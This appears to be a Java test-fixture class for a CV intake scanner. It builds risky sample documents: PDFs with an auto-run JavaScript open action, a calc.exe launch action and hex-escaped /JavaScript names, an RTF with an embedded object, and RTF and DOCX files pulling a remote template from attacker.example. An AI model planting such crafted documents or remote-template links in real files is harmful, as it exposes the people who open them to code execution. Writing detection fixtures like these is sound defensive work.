package com.example.ats.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;

/** Documents that are not malware but act when opened, as the tools that make them write them. */
public final class RiskyDocuments {

    private RiskyDocuments() {}

    /** A PDF made by PDFBox, saved with compressed object streams (the script hides in one). */
    public static byte[] pdfWithJavaScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
    }

    public static byte[] pdfWithLaunchAction() {
        return pdf(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString("F", "calc.exe");
            document.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] cleanPdfByPdfBox() {
        return pdf(document -> {});
    }

    /** A hand-written PDF whose /JS key is written with an escaped letter, as obfuscated samples do. */
    public static byte[] pdfWithEscapedJavaScriptName() {
        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
                        + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
                        + "3 0 obj << /S /Java#53cript /J#53 (app.alert\\(1\\)) >> endobj\n"
                        + "trailer << /Root 1 0 R >>\n%%EOF\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] rtfWithObject() {
        return "{\\rtf1\\ansi {\\object\\objemb {\\*\\objdata 0105000002000000}} CV}"
                .getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] rtfWithRemoteTemplate() {
        return "{\\rtf1\\ansi{\\*\\template http://attacker.example/t.dot} CV}".getBytes(StandardCharsets.US_ASCII);
    }

    /** Mentions "\object" as text (an escaped backslash): nothing embedded. */
    public static byte[] rtfMentioningObjectAsText() {
        return "{\\rtf1\\ansi Use \\\\object in C:\\\\objects\\\\ here.}".getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] docxWithRemoteTemplate() {
        return docx("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/attachedTemplate\" Target=\"https://attacker.example/t.dotm\" TargetMode=\"External\"/>"
                + "</Relationships>");
    }

    public static byte[] docxWithHyperlink() {
        return docx("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/hyperlink\" Target=\"https://www.linkedin.com/in/someone\" TargetMode=\"External\"/>"
                + "</Relationships>");
    }

    private static byte[] docx(String settingsRels) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(
                    zip,
                    "[Content_Types].xml",
                    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/"
                            + "package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/"
                            + "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
            put(zip, "_rels/.rels", "<Relationships/>");
            put(zip, "word/document.xml", "<w:document><w:body><w:p>CV</w:p></w:body></w:document>");
            put(zip, "word/_rels/settings.xml.rels", settingsRels);
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void put(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    private interface Change {
        void apply(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Change change) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            change.apply(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
